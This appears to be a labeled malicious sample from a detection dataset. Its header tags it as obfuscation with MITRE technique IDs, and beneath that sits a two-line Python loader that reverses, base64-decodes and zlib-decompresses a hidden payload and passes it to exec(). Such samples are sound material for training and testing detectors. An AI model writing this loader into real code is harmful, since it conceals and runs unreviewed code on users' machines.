# label: malicious family=obfuscation techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=2-3
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));
exec((_)(b'=MZEUdDAEINUOjSUoG1zTPzMWTDNzA9MWDjM3ct0wmSKogsVtAdUK3iLKBV1NnkLs46KW/iz2+CyRpyLI3CzLzJe'))
